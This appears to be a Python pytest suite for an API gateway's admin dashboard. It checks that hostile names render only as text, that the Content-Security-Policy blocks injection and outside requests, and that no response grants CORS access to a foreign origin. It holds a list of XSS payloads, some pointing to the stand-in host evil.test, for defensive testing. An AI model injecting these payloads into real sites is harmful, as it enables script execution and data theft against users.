"""Nothing that a tenant or an operator can name runs in the dashboard."""

from __future__ import annotations

import random
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import quote

import pytest
from support.admin import Reply
from support.backend import FakeBackend
from support.browser import browser
from support.client import chat, fetch
from support.options import Run
from support.tollgate import gateway
from support.world import World

SEEDS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><iframe srcdoc='<script>alert(1)</script>'>",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "</td></table><script>alert(1)</script>",
    "<style>*{background:url(https://evil.test/)}</style>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content=0;url=https://evil.test/>",
    "<form action=https://evil.test/><input name=key>",
    "&lt;b&gt;",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<object data=https://evil.test/>",
    "#/../../admin/v1/whoami",
    "a?b#c&d=e",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "data:text/html,<script>alert(1)</script>",
    "\u202eevil\u202c",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<template><script>alert(1)</script></template>",
    "__proto__",
    "constructor",
    "toString",
    "x' onmouseover='alert(1)",
    "<body onpageshow=alert(1)>",
]
PAGES = [
    "overview",
    "spend?by=tenant",
    "spend?by=key",
    "spend?by=model",
    "spend?by=pool",
    "spend?by=backend",
    "tenants",
    "keys",
    "budgets",
    "pools",
    "models",
    "periods",
    "requests",
    "audit",
]


def hostile(seed: int, count: int) -> list[str]:
    """So many names, all different, each of one or two of the seeds."""
    choice = random.Random(seed)
    names = set(SEEDS)
    while len(names) < count:
        names.add(
            f"{choice.choice(SEEDS)} {choice.choice(['', choice.choice(SEEDS)])}{choice.randrange(10**6)}"[:120].strip()
        )
    return sorted(names)


CHEAP_KEYS = "keys: { argon2: { memory: 8KiB, iterations: 1 } }\n"


@pytest.fixture(scope="module")
def world(run: Run, backend: FakeBackend) -> Iterator[World]:
    with gateway(run.binary, CHEAP_KEYS) as server:
        yield World.lay(server, backend)


def test_hostile_names_in_every_field_are_only_text(run: Run, world: World) -> None:
    names = hostile(run.seed, 500 if run.full else 120)
    admin = world.admin

    def make(name: str) -> list[Reply]:
        """Each field takes the name or refuses it; a tenant that takes it gets all its parts."""
        made = admin.send("POST", "/tenants", {"name": name, "tags": {"note": name}})
        replies = [
            made,
            admin.send("POST", "/pools", {"name": name}),
            admin.send(
                "PUT",
                f"/models/{quote(name, safe='')}",
                {"targets": [{"pool": "fast", "upstream_model": name}], "max_output_tokens": 10},
            ),
        ]
        if made.status == 201:
            tenant = made.body["id"]
            admin.entitle(tenant, {"fast": ["*"]})
            replies.append(admin.send("POST", f"/tenants/{tenant}/keys", {"name": name, "tags": {"note": name}}))
            replies.append(
                admin.send("POST", f"/tenants/{tenant}/credits", {"amount": "1", "kind": "goodwill", "note": name})
            )
            admin.budget(tenant, "5")
        replies.append(
            admin.send(
                "POST",
                "/pools/fast/backends",
                {"name": f"{name} b", "kind": "openai", "base_url": "http://127.0.0.1:9/v1", "weight": 1},
            )
        )
        return replies

    with ThreadPoolExecutor(8) as pool:
        replies = list(pool.map(make, names))
    assert all(reply.status in (200, 201, 400) for made in replies for reply in made), "a name broke something"
    accepted = [sum(made[field].status < 300 for made in replies) for field in (0, 1, 2)]
    assert min(accepted) > len(names) / 2, f"too few names are accepted to show anything: {accepted}"
    for backend in admin.rows("/pools/fast/backends"):
        if backend["name"] != "fake-a":
            admin.ok("POST", f"/backends/{backend['id']}/drain")
    spoken = [reply for made in replies for reply in made[3:4] if reply.status == 201][:25]
    for reply, model in zip(spoken, ["fake"] * 25, strict=False):
        fetch(world.server.data, reply.body["key"], chat(world.fresh("hostile"), model=model, max_tokens=5))

    with browser(world.server) as chromium:
        chromium.sign_in(world.server.admin_key)
        tenants = [made[0].body["id"] for made in replies if made[0].status == 201]
        for page in [*PAGES, *(f"tenants/{tenant}" for tenant in tenants[:12])]:
            chromium.go(page)
            strangers = chromium.script("""
                const kinds = 'main :is(img, iframe, object, style, link, base, meta, script, math, template),'
                    + ' [onerror], [onload], [onmouseover], [ontoggle], a[href^="javascript"], a[href^="data"]';
                return [...document.querySelectorAll(kinds)].map(e => e.outerHTML);
            """)
            assert not strangers, f"{page}: {strangers[:3]}"
            assert chromium.script("return window.__ran") == 0, f"{page}: a script ran"
            assert not chromium.reports(), f"{page}: {chromium.reports()[:3]}"
            assert chromium.script("return location.pathname") == "/"
        chromium.go("tenants")
        field = chromium.field("Find among")
        field.send_keys("<script>alert(1)</script>")
        chromium.until(lambda: "<script>alert(1)</script>" in chromium.texts("main tbody th a"), "the name as text")
        assert not chromium.console()
        outside = [
            request["url"]
            for request in chromium.requests()
            if not request["url"].startswith((chromium.base, "data:", "chrome:"))
        ]
        assert not outside, outside


def test_the_page_cannot_be_talked_into_markup(world: World) -> None:
    """What the policy stops even if the code were wrong: text as markup, evaluation, other origins."""
    with browser(world.server) as chromium:
        chromium.sign_in(world.server.admin_key)
        assert not chromium.reports()
        failures = chromium.script("""
            const tries = [
                () => { document.body.innerHTML += '<b>x</b>'; },
                () => { document.write('x'); },
                () => { document.createElement('script').src = 'https://evil.test/x.js'; },
                () => { trustedTypes.createPolicy('other', { createHTML: x => x }); },
            ];
            return tries.filter(attempt => { try { attempt(); return true; } catch { return false; } }).map(String);
        """)
        assert not failures, failures
        # Later, because what the driver runs at once may evaluate whatever it likes.
        evaluated = chromium.driver.execute_async_script("""
            const done = arguments[arguments.length - 1];
            setTimeout(() => { try { done(eval('1')); } catch { done(null); } });
        """)
        assert evaluated is None
        blocked = chromium.driver.execute_async_script("""
            const done = arguments[arguments.length - 1];
            fetch('https://evil.test/').then(() => done(false), () => done(true));
        """)
        assert blocked and any("connect-src" in report for report in chromium.reports())


def test_every_file_of_the_page_comes_with_the_whole_policy(world: World) -> None:
    for path in ("/", "/dashboard/app.js", "/dashboard/style.css", "/dashboard/pages/spend.js"):
        headers = world.admin.send("GET", path, root="").headers
        policy = {part.split(" ")[0]: part.split(" ")[1:] for part in headers["content-security-policy"].split("; ")}
        assert policy == {
            "default-src": ["'none'"],
            "script-src": ["'self'", "https://cdn.jsdelivr.net"],
            "style-src": ["'self'"],
            "img-src": ["'self'", "data:"],
            "connect-src": ["'self'"],
            "frame-ancestors": ["'none'"],
            "base-uri": ["'none'"],
            "form-action": ["'self'"],
            "require-trusted-types-for": ["'script'"],
            "trusted-types": ["tollgate-chart"],
        }, path
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "no-referrer"
        assert headers["x-frame-options"] == "DENY"
        assert headers["cross-origin-opener-policy"] == "same-origin"
        assert headers["cross-origin-resource-policy"] == "same-origin"


@pytest.mark.parametrize("method", ["GET", "OPTIONS", "POST"])
def test_no_answer_names_an_origin_that_may_read_it(world: World, method: str) -> None:
    """A page of another origin can ask, and its browser keeps the answer from it."""
    headers = {"origin": "https://evil.test", "access-control-request-method": "POST",
               "access-control-request-headers": "authorization"}
    tenant = world.tenant()
    bodies = [world.admin.send(method, "/admin/v1/tenants", {} if method == "POST" else None, headers, root=""),
              world.admin.send(method, "/dashboard/app.js", None, headers, root="")]
    shown = [name for reply in bodies for name in reply.headers]
    answer = fetch(world.server.data, tenant.key, chat("cors") if method == "POST" else None,
                   "/v1/chat/completions" if method == "POST" else "/v1/models", method=method, headers=headers)
    shown += list(answer.headers)
    assert shown and not [name for name in shown if name.startswith("access-control")]
